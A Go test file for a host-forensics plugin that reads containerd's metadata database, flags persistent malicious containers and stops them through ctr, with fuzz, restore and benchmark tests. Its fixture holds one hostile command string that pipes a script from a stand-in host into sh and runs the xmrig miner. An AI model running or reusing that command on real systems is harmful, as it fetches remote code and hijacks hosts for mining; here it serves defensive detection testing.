package persist

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/abusekit/abusekit/plugins/persist/hosttest"
	"github.com/google/go-cmp/cmp"
)

func writeMetaDB(t *testing.T, data string) string {
	t.Helper()
	name := filepath.Join(t.TempDir(), "meta.db")
	if err := os.WriteFile(name, []byte(data), 0o600); err != nil {
		t.Fatal(err)
	}
	return name
}

// The reader finds every container of every namespace in a real bbolt
// meta.db, with its image, runtime, labels and the process of its spec.
func TestReadContainerdDB(t *testing.T) {
	data, err := hosttest.ContainerdDB(hosttest.ContainerdContainers())
	if err != nil {
		t.Fatal(err)
	}
	cs, err := readContainerdFile(context.Background(), writeMetaDB(t, data))
	if err != nil {
		t.Fatal(err)
	}
	type got struct {
		NS, ID, Image, Runtime, SpecType, Status, Policy, Name, Command string
		HostRoot, Privileged                                            bool
	}
	var all []got
	for _, c := range cs {
		p, err := parseOCISpec(c.Spec)
		if err != nil {
			t.Fatalf("%s: %v", c.ID, err)
		}
		all = append(all, got{c.Namespace, shortID(c.ID), c.Image, c.Runtime, c.SpecType, c.Labels[labelRestartStatus], c.Labels[labelRestartPolicy], c.Labels[labelNerdctlName], p.Command, p.HostRoot, p.Privileged})
	}
	const spec = "types.containerd.io/opencontainers/runtime-spec/1/Spec"
	const rt = "io.containerd.runc.v2"
	miner := `/bin/sh -c 'apk add --no-cache curl; curl -sL http://203.0.113.7/xm.sh | sh; /tmp/xmrig -o stratum+tcp://203.0.113.7:3333 --donate-level 1'`
	want := []got{
		{"default", "3a7d9e1f2b4c", "docker.io/library/nginx:1.27", rt, spec, "running", "unless-stopped", "web", `/docker-entrypoint.sh nginx -g 'daemon off;'`, false, false},
		{"default", "9c4e1f2a7b3d", "docker.io/alpineos/dockerapi:latest", rt, spec, "running", "always", "kube-proxyd", miner, true, true},
		{"default", "e7f8091a2b3c", "docker.io/alpineos/dockerapi:latest", rt, spec, "stopped", "always", "old", miner, false, false},
		{"k8s.io", "b1c2d3e4f506", "registry.k8s.io/pause:3.9", rt, spec, "", "", "", "/pause", false, false},
	}
	if diff := cmp.Diff(want, all); diff != "" {
		t.Errorf("containers (-want +got):\n%s", diff)
	}
}

// A damaged meta.db is a clear error, never a panic: garbage, a file cut
// short, a page overwritten, a spec that is not a protobuf Any.
func TestReadContainerdDBBad(t *testing.T) {
	data, err := hosttest.ContainerdDB(hosttest.ContainerdContainers())
	if err != nil {
		t.Fatal(err)
	}
	smashed := []byte(data)
	for i := 2 * 4096; i < len(smashed) && i < 5*4096; i++ {
		smashed[i] = 0xff
	}
	badSpec, err := hosttest.ContainerdDB([]hosttest.CtrdContainer{{Namespace: "default", ID: hosttest.CtrdMinerID, Spec: []byte{0x0a, 0xff, 0xff}}})
	if err != nil {
		t.Fatal(err)
	}
	for name, d := range map[string]string{
		"empty":    "",
		"garbage":  "not a bolt file at all, just text\n",
		"cut":      data[:len(data)/2],
		"smashed":  string(smashed),
		"bad spec": badSpec,
	} {
		t.Run(name, func(t *testing.T) {
			_, err := readContainerdFile(context.Background(), writeMetaDB(t, d))
			if !errors.Is(err, ErrContainerdDB) {
				t.Errorf("err = %v, want ErrContainerdDB", err)
			}
		})
	}
}

func FuzzDecodeAny(f *testing.F) {
	f.Add(hosttest.ContainerdSpecAny([]byte(`{"process":{"args":["/bin/sh"]}}`)))
	f.Add([]byte{0x0a, 0x01})
	f.Fuzz(func(t *testing.T, b []byte) {
		typ, val, err := decodeAny(b)
		if err != nil {
			return
		}
		if len(typ)+len(val) > len(b) {
			t.Fatalf("decoded more than the input: %d+%d > %d", len(typ), len(val), len(b))
		}
		_, _ = parseOCISpec(val)
	})
}

// FuzzReadContainerdFile feeds bytes to bbolt through the reader: an
// error or a result, never a panic or a hang.
func FuzzReadContainerdFile(f *testing.F) {
	data, err := hosttest.ContainerdDB(hosttest.ContainerdContainers()[:1])
	if err != nil {
		f.Fatal(err)
	}
	f.Add([]byte(data))
	f.Add([]byte("garbage"))
	f.Fuzz(func(t *testing.T, b []byte) {
		name := filepath.Join(t.TempDir(), "meta.db")
		if err := os.WriteFile(name, b, 0o600); err != nil {
			t.Fatal(err)
		}
		if _, err := readContainerdFile(context.Background(), name); err != nil && !errors.Is(err, ErrContainerdDB) {
			t.Fatalf("error without ErrContainerdDB: %v", err)
		}
	})
}

// A containerd container whose restart labels bring it back, running a
// miner with the host's / mounted, is critical like Docker's and names
// the fix; the healthy nginx, the stopped miner and the CRI sandbox are
// never above what they are (info, medium at most for the stopped one).
func TestFindContainerd(t *testing.T) {
	dir := build(t, hosttest.Containerd(hosttest.Debian12(), hosttest.ContainerdContainers()))
	type got struct {
		Sev    Severity
		Action Action
		Fix    bool
	}
	all := map[string]got{}
	for _, f := range find(t, dir, hosttest.Window()) {
		if f.Path != containerdDB {
			continue
		}
		fix := false
		for _, r := range f.Reasons {
			if strings.Contains(r, "ctr -n default containers label "+strings.TrimPrefix(f.Container, "default/")+" containerd.io/restart.status=stopped") {
				fix = true
			}
		}
		all[shortID(f.Container[strings.Index(f.Container, "/")+1:])] = got{f.Severity, f.Action, fix}
	}
	want := map[string]got{
		shortID(hosttest.CtrdMinerID):   {Critical, ActionNone, true},
		shortID(hosttest.CtrdWebID):     {Info, ActionNone, false},
		shortID(hosttest.CtrdStoppedID): {Medium, ActionNone, false},
		shortID(hosttest.CtrdPauseID):   {Info, ActionNone, false},
	}
	if diff := cmp.Diff(want, all); diff != "" {
		t.Errorf("containerd findings (-want +got):\n%s", diff)
	}
}

// A meta.db that cannot be read is a low finding; Find goes on.
func TestFindContainerdUnreadable(t *testing.T) {
	dir := build(t, hosttest.Debian12().With(hosttest.Entry{Path: hosttest.ContainerdMetaDB, Data: "not bolt"}))
	var got []Severity
	for _, f := range find(t, dir, hosttest.Window()) {
		if f.Path == containerdDB {
			got = append(got, f.Severity)
		}
	}
	if diff := cmp.Diff([]Severity{Low}, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func containerdLiveTree() hosttest.Tree {
	tree := hosttest.Containerd(hosttest.Debian12(), hosttest.ContainerdContainers())
	for _, id := range []string{hosttest.CtrdMinerID, hosttest.CtrdWebID} {
		tree = tree.With(hosttest.Entry{Path: containerdTasks + "/default/" + id + "/config.json", Mode: 0o644, Data: `{"ociVersion":"1.1.0","process":{"args":["/bin/sh"]}}`})
	}
	return tree
}

// On the live root the miner's containerd container is stopped through
// ctr: its restart status label set to stopped (so the restart plugin
// leaves it), then its task killed; the healthy one is not touched;
// meta.db and the task's bundle are left to containerd. Restore sets the
// label back to running (the restart plugin then starts it).
func TestContainerdStoppedLive(t *testing.T) {
	ctx := context.Background()
	dir := build(t, containerdLiveTree())
	treatAsLive(t, dir, nil)
	before := snapshot(t, dir)
	p, _ := planFor(t, dir, hosttest.Window())
	bundle := containerdTasks + "/default/" + hosttest.CtrdMinerID + "/config.json"
	var stops []ContainerStop
	for _, c := range p.Changes {
		if c.Op == OpStopContainer {
			stops = append(stops, *c.Container)
			if c.Path != bundle {
				t.Errorf("stop-container at %s, want %s", c.Path, bundle)
			}
		}
	}
	if diff := cmp.Diff([]ContainerStop{{Runtime: "containerd", Namespace: "default", ID: hosttest.CtrdMinerID, Restart: "running"}}, stops); diff != "" {
		t.Fatalf("planned stops (-want +got):\n%s", diff)
	}
	var ran [][]string
	run := func(_ context.Context, argv []string) error {
		ran = append(ran, argv)
		return nil
	}
	res, err := Apply(ctx, p, ApplyOptions{QuarantineDir: t.TempDir(), Run: run})
	if err != nil {
		t.Fatal(err)
	}
	id := hosttest.CtrdMinerID
	if diff := cmp.Diff([][]string{
		{"ctr", "-n", "default", "containers", "label", id, "containerd.io/restart.status=stopped"},
		{"ctr", "-n", "default", "task", "kill", "-s", "SIGKILL", id},
	}, ran); diff != "" {
		t.Errorf("Apply ran (-want +got):\n%s", diff)
	}
	for _, p := range []string{containerdDB, bundle, containerdTasks + "/default/" + hosttest.CtrdWebID + "/config.json"} {
		if before[p].Type != "file" {
			t.Fatalf("%s not in the tree: %+v", p, before[p])
		}
		if diff := cmp.Diff(before[p], snapshot(t, dir)[p]); diff != "" {
			t.Errorf("live Apply changed %s (-before +after):\n%s", p, diff)
		}
	}
	ran = nil
	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{Run: run}); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([][]string{{"ctr", "-n", "default", "containers", "label", id, "containerd.io/restart.status=running"}}, ran); diff != "" {
		t.Errorf("Restore ran (-want +got):\n%s", diff)
	}
}

// Offline the containerd finding is reported, never acted on: meta.db
// is containerd's and is not rewritten.
func TestContainerdOfflineReportOnly(t *testing.T) {
	dir := build(t, containerdLiveTree())
	p, fs := planFor(t, dir, hosttest.Window())
	for _, c := range p.Changes {
		if c.Path == containerdDB || strings.HasPrefix(c.Path, containerdTasks) {
			t.Errorf("offline plan acts on %s: %s", c.Path, c.Op)
		}
	}
	for _, f := range fs {
		if f.Path == containerdDB && f.Action != ActionNone {
			t.Errorf("offline finding with action %s: %s", f.Action, f)
		}
	}
}

// BenchmarkReadContainerdDB: the cost of reading a meta.db of n
// containers (a private copy is made by Find on top of this).
func BenchmarkReadContainerdDB(b *testing.B) {
	for _, n := range []int{4, 500} {
		b.Run(fmt.Sprint(n), func(b *testing.B) {
			base := hosttest.ContainerdContainers()
			var cs []hosttest.CtrdContainer
			for i := 0; i < n; i++ {
				c := base[i%len(base)]
				c.ID = fmt.Sprintf("%s%04d", c.ID[:60], i)
				cs = append(cs, c)
			}
			data, err := hosttest.ContainerdDB(cs)
			if err != nil {
				b.Fatal(err)
			}
			name := filepath.Join(b.TempDir(), "meta.db")
			if err := os.WriteFile(name, []byte(data), 0o600); err != nil {
				b.Fatal(err)
			}
			b.SetBytes(int64(len(data)))
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				got, err := readContainerdFile(context.Background(), name)
				if err != nil || len(got) != n {
					b.Fatalf("%d containers, %v", len(got), err)
				}
			}
		})
	}
}
